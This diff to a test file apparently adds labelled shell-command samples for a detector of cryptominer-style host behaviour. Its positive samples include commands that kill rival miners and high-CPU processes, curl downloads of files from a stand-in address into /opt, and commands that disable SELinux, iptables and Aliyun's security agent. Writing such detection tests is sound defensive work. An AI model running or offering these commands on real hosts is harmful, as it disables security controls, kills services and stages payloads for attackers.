@@ -130,6 +130,28 @@ class BehaviourTest {
             - | pkill -f gunicorn; killall -HUP nginx; kill -9 $(cat /run/app.pid)
             - | ps aux | grep java | grep -v grep | awk '{print $2}' | xargs kill
             - | ps aux | awk '$3 > 80 {print $2, $11}' | mail -s load ops
+            RIVAL_KILLING | ps aux | grep -vw sshd | awk '{if($3>40.0) print $2}' | while read procid; do kill -9 $procid; done
+            RIVAL_KILLING | pids=$(ps aux | grep -v grep | awk '$3>65{print $2}'); for p in $pids; do kill -9 $p; done
+            RIVAL_KILLING | ps aux > /opt/l; awk '$3 > 65 {print $2}' /opt/l > /opt/p; kill -9 $(cat /opt/p)
+            RIVAL_KILLING | ps aux | grep root | awk '$3>60{print $2}' | xargs kill -9
+            RIVAL_KILLING | ps aux | awk '$3>60 && !/sshd/ {print $2}' | xargs kill -9
+            RIVAL_KILLING | ps aux | grep '...' | awk '$3>60{print $2}' | xargs kill -9
+            RIVAL_KILLING | pgrep -f 'xmrig|kinsing|kdevtmpfsi' > /run/a.pid; kill -9 $(cat /run/a.pid)
+            RIVAL_KILLING | killall -HUP xmrig kinsing kdevtmpfsi
+            RIVAL_KILLING | pkill xmrig; kill -9 $(lsof -t -i:3333); kill -9 $(lsof -t -i:4444); kill -9 $(lsof -t -i:5555)
+            RIVAL_KILLING | for p in :5555 :6666 :7777 :8888 :9999; do netstat -anp | grep $p | awk '{print $7}' | cut -d/ -f1 | xargs kill -9; done
+            - | kill -9 $(lsof -t -i:7777); kill -9 $(lsof -t -i:8888); kill -9 $(lsof -t -i:9999)
+            - | for s in gateway:7777 order:8888 user:9999; do p=$(lsof -t -i:${s##*:}); kill -9 $p; done
+            - | for p in 7777 8888 9999; do netstat -lntp | grep ":$p " | awk '{print $7}' | cut -d/ -f1 | xargs kill -9; done; netstat -tlnp | grep -E ':7777|:8888|:9999'
+            - | ps aux | grep php-fpm | grep -v grep | awk '{if($3>=60)print $2}' | while read pid; do kill -9 $pid; done
+            - | df -m | awk '$3>80000 {print $6}'; kill -HUP $(cat /run/app.pid)
+            - | df -m | awk '$3>80000 {print $6}' | mail ops; ps aux | grep app.jar | awk '{print $2}' | xargs kill -9
+            - | for n in 3333 4444; do ss -ant | grep ":3333"; done; ps aux | grep -E "xmrig|kdevtmpfsi|kinsing" | mail ops; kill -0 $(cat /run/app.pid) || systemctl start app
+            - | ps aux | grep -E "xmrig|kdevtmpfsi|kinsing" | mail ops; /opt/app & echo $! > /run/app.pid; kill $(cat /run/app.pid)
+            ~SAVES_DOWNLOAD | curl -s "https://sctapi.ftqq.com/x.send?title=a" > /dev/null; curl -d '{}' https://qyapi.weixin.qq.com/cgi-bin/webhook/send
+            SAVES_DOWNLOAD | curl -o /opt/x http://192.0.2.1/x
+            SAVES_DOWNLOAD | curl http://192.0.2.1/x.tgz | tar xz -C /opt
+            SAVES_DOWNLOAD | get() { curl -s "$1"; }; get http://192.0.2.1/x > /opt/x
             DISABLES_SECURITY | setenforce 0
             DISABLES_SECURITY | systemctl stop aliyun.service; systemctl disable aegis
             DISABLES_SECURITY | service iptables stop
